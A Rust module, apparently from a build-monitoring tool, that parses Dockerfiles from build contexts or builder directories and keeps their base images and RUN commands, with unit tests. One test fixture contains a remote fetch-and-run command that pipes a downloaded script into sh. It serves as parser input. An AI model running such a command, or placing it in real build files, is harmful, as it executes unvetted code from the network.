//! The Dockerfile inside a classic build's context (the tar body of `POST /build`): its base
//! images and RUN commands are known as soon as the context arrives, before the daemon runs
//! anything, and even when the base image is already local and never fetched.
use std::{
    io::Read as _,
    path::{Path, PathBuf},
};

use serde::{Deserialize, Serialize};

use crate::saferead::{self, Credentials};

/// Dockerfile bytes read at most.
const MAX_DOCKERFILE: u64 = 64 * 1024;
/// Instructions kept per kind.
const MAX_INSTRUCTIONS: usize = 32;

#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Dockerfile {
    pub name: String,
    /// `FROM` images (stage names excluded), as written.
    pub from: Vec<String>,
    /// `RUN` commands, continuation lines joined.
    pub run: Vec<String>,
}

/// Finds `name` (default `Dockerfile`) in a tar stream that may be cut short.
pub fn from_context(tar_bytes: &[u8], name: Option<&str>) -> Option<Dockerfile> {
    let wanted = name.unwrap_or("Dockerfile").trim_start_matches("./");
    let mut archive = tar::Archive::new(tar_bytes);
    for entry in archive.entries().ok()? {
        let Ok(mut entry) = entry else {
            return None;
        };
        let Ok(path) = entry.path() else {
            continue;
        };
        if path.to_string_lossy().trim_start_matches("./") != wanted {
            continue;
        }
        let mut text = String::new();
        if (&mut entry)
            .take(MAX_DOCKERFILE)
            .read_to_string(&mut text)
            .is_err()
        {
            return None;
        }
        return Some(parse(wanted, &text));
    }
    None
}

/// The process whose build context is read: files are looked up in its root and working
/// directory, and read with its credentials (see `saferead`).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ClientFiles {
    pub pid: u32,
    pub cwd: Option<String>,
    pub credentials: Credentials,
}

/// The Dockerfile of a daemon-less build, read from the builder's context directory as the
/// builder's own user would (relative paths resolve against its working directory, inside its
/// root). Only FROM and RUN lines are kept. The error says why nothing was read.
pub fn from_directory(
    proc_root: &Path,
    client: &ClientFiles,
    context: &str,
    name: Option<&str>,
) -> Result<Dockerfile, String> {
    let root = proc_root.join(client.pid.to_string()).join("root");
    let cwd = Path::new(client.cwd.as_deref().unwrap_or("/"));
    let base = cwd.join(context);
    let candidates: Vec<PathBuf> = match name {
        Some(name) => vec![cwd.join(name), base.join(name)],
        None => vec![base.join("Containerfile"), base.join("Dockerfile")],
    };
    let mut refusals = Vec::new();
    for candidate in candidates {
        match saferead::read_as(Some(&root), &candidate, Some(&client.credentials), MAX_DOCKERFILE) {
            Ok(bytes) => {
                return Ok(parse(
                    &candidate.to_string_lossy(),
                    &String::from_utf8_lossy(&bytes),
                ))
            }
            Err(refusal) => refusals.push(refusal.to_string()),
        }
    }
    Err(refusals.join("; "))
}

pub fn parse(name: &str, text: &str) -> Dockerfile {
    let mut dockerfile = Dockerfile {
        name: name.to_string(),
        ..Dockerfile::default()
    };
    let mut stages: Vec<String> = Vec::new();
    for instruction in instructions(text) {
        let (keyword, rest) = instruction
            .split_once(char::is_whitespace)
            .unwrap_or((&instruction, ""));
        let rest = rest.trim();
        match keyword.to_ascii_uppercase().as_str() {
            "FROM" => {
                let words: Vec<&str> = rest.split_whitespace().filter(|w| !w.starts_with("--")).collect();
                if let Some(image) = words.first() {
                    if !stages.iter().any(|s| s.eq_ignore_ascii_case(image))
                        && dockerfile.from.len() < MAX_INSTRUCTIONS
                    {
                        dockerfile.from.push(image.to_string());
                    }
                }
                if let [_, as_keyword, stage] = words.as_slice() {
                    if as_keyword.eq_ignore_ascii_case("as") {
                        stages.push(stage.to_string());
                    }
                }
            }
            "RUN" if dockerfile.run.len() < MAX_INSTRUCTIONS => dockerfile.run.push(rest.to_string()),
            _ => {}
        }
    }
    dockerfile
}

/// Logical instructions: comments dropped, backslash continuations joined.
fn instructions(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut current = String::new();
    for line in text.lines() {
        let trimmed = line.trim();
        if trimmed.starts_with('#') && current.is_empty() || trimmed.is_empty() && current.is_empty() {
            continue;
        }
        match trimmed.strip_suffix('\\') {
            Some(part) => {
                current.push_str(part.trim());
                current.push(' ');
            }
            None => {
                current.push_str(trimmed);
                out.push(std::mem::take(&mut current).trim().to_string());
            }
        }
    }
    if !current.trim().is_empty() {
        out.push(current.trim().to_string());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tar_of(files: &[(&str, &str)]) -> Vec<u8> {
        let mut builder = tar::Builder::new(Vec::new());
        for (name, content) in files {
            let mut header = tar::Header::new_gnu();
            header.set_size(content.len() as u64);
            header.set_mode(0o644);
            header.set_cksum();
            builder
                .append_data(&mut header, name, content.as_bytes())
                .unwrap();
        }
        builder.into_inner().unwrap()
    }

    #[test]
    fn from_and_run_out_of_a_context() {
        let dockerfile = "# syntax\nFROM 127.0.0.1:5000/base:1 AS build\nRUN wget -qO- http://x/p.sh \\\n  | sh\nFROM build\nFROM --platform=linux/amd64 alpine\nRUN echo hi\n";
        let context = tar_of(&[("app.txt", "hello"), ("Dockerfile", dockerfile)]);
        let parsed = from_context(&context, None).unwrap();
        assert_eq!(parsed.from, ["127.0.0.1:5000/base:1", "alpine"]);
        assert_eq!(parsed.run, ["wget -qO- http://x/p.sh | sh", "echo hi"]);
    }

    #[test]
    fn daemon_less_build_reads_its_context_directory() {
        let dir = std::env::temp_dir().join(format!("bw-dockerfile-{}", std::process::id()));
        std::fs::create_dir_all(dir.join("app")).unwrap();
        std::fs::write(dir.join("app/Containerfile"), "FROM alpine\nRUN apk add curl\n").unwrap();
        // SAFETY: getuid/getgid have no preconditions.
        let (uid, gid) = unsafe { (libc::getuid(), libc::getgid()) };
        let client = ClientFiles {
            pid: std::process::id(),
            cwd: dir.to_str().map(String::from),
            credentials: Credentials {
                uid,
                gid,
                groups: vec![],
            },
        };
        let proc_root = Path::new("/proc");
        let found = from_directory(proc_root, &client, "app", None).unwrap();
        assert_eq!(found.from, ["alpine"]);
        assert_eq!(found.run, ["apk add curl"]);
        let missing = from_directory(proc_root, &client, "missing", None).unwrap_err();
        assert!(missing.contains("No such file"), "{missing}");
        let kernel = from_directory(proc_root, &client, ".", Some("/proc/self/status")).unwrap_err();
        assert!(kernel.contains("procfs"), "{kernel}");
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn named_dockerfile_and_cut_contexts() {
        let context = tar_of(&[("Dockerfile.evil", "FROM busybox\n"), ("big", &"x".repeat(5000))]);
        assert_eq!(
            from_context(&context, Some("Dockerfile.evil")).unwrap().from,
            ["busybox"]
        );
        assert_eq!(
            from_context(&context[..1500], Some("./Dockerfile.evil"))
                .unwrap()
                .from,
            ["busybox"]
        );
        assert_eq!(from_context(&context[..700], None), None);
        assert_eq!(from_context(b"not a tar at all", None), None);
    }
}
